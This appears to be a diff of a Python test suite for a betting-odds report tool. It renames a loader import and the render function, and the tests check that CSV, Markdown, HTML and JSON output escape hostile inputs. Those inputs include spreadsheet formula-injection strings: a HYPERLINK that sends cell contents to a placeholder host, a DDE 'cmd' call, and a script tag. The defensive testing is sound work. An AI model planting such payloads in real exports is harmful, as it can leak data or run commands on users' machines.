@@ -14,8 +14,8 @@ import pytest
 
 from exactodds.compare import compare_variants, render_comparison
 from exactodds.escape import csv_cell
-from exactodds.paytable import load_paytable
-from exactodds.report import Sheet, build_sheets, render
+from exactodds.paytable_loader import load_paytable
+from exactodds.report import Sheet, build_sheets, render_sheets
 
 FORMULAS = ['=HYPERLINK("http://x.example/?q="&A1,"click")', "+1+2", "@SUM(A1:A9)", "-2+3"]
 TABLE_BREAKERS = ["a|b", "line\nbreak", "tick`s ``x``", "<script>alert(1)</script>", "- 5 to 1"]
@@ -54,7 +54,7 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Sheet:
 
 
 def test_csv_cells_never_start_a_formula_and_numbers_stay(hostile: Sheet) -> None:
-    lines = list(csv.reader(io.StringIO(render([hostile], "csv"), newline="")))
+    lines = list(csv.reader(io.StringIO(render_sheets([hostile], "csv"), newline="")))
     cells = [cell for line in lines for cell in line]
     for cell in cells:
         if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
@@ -90,7 +90,7 @@ def _table_rows(md: str) -> list[list[str]]:
 
 
 def test_markdown_tables_keep_their_shape(hostile: Sheet) -> None:
-    md = render([hostile], "md")
+    md = render_sheets([hostile], "md")
     width = None
     for line in md.splitlines():
         if line.startswith("|"):
@@ -105,7 +105,9 @@ def test_markdown_tables_keep_their_shape(hostile: Sheet) -> None:
 
 def test_markdown_renders_every_name_and_event_intact(hostile: Sheet) -> None:
     markdown_it = pytest.importorskip("markdown_it")
-    html = markdown_it.MarkdownIt("commonmark").enable("table").render(render([hostile], "md"))
+    html = (
+        markdown_it.MarkdownIt("commonmark").enable("table").render(render_sheets([hostile], "md"))
+    )
     parsed = _Text()
     parsed.feed(html)
     assert parsed.tags.get("script", 0) == 0 and parsed.tags.get("b", 0) == 0
@@ -118,7 +120,7 @@ def test_markdown_renders_every_name_and_event_intact(hostile: Sheet) -> None:
 
 
 def test_html_escapes_text_and_attributes(hostile: Sheet) -> None:
-    html = render([hostile], "html")
+    html = render_sheets([hostile], "html")
     parsed = _Text()
     parsed.feed(html)
     # the designer's data block and script only (the data keeps every string intact)
@@ -138,7 +140,7 @@ def test_html_escapes_text_and_attributes(hostile: Sheet) -> None:
 
 
 def test_json_keeps_every_string(hostile: Sheet) -> None:
-    data = json.loads(render([hostile], "json"))
+    data = json.loads(render_sheets([hostile], "json"))
     assert data["paytable"] == "=cmd|' /C calc'!A0 <b>game</b>"
     assert data["bets"][0]["name"] == "@player|`name`"
     assert [r["event"] for r in data["bets"][0]["rows"]] == [*FORMULAS, *TABLE_BREAKERS]
